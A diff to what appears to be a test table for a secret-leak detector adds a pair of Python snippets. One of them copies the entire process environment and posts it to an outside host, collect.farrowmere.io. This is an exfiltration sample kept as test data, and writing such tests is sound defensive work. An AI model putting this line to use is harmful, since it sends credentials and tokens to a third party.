@@ -35,6 +35,24 @@ test.each([
     ),
   ],
   [
+    'a copy of the environment in which single names are looked up',
+    py(
+      'def settings():',
+      '    values = dict(os.environ)',
+      '    values.setdefault("HUB_URL", "")',
+      '    return values',
+      'found = settings()',
+      'requests.post(found.get("HUB_URL"), json={"a": 1})',
+    ),
+    py(
+      'def settings():',
+      '    values = dict(os.environ)',
+      '    return values',
+      'found = settings()',
+      'requests.post("https://collect.farrowmere.io/in", json=found)',
+    ),
+  ],
+  [
     'one name of a file of settings, for a request to its own service in the same command',
     sh(
       'ACME_KEY=$(grep ACME_KEY .env | cut -d= -f2) \\',
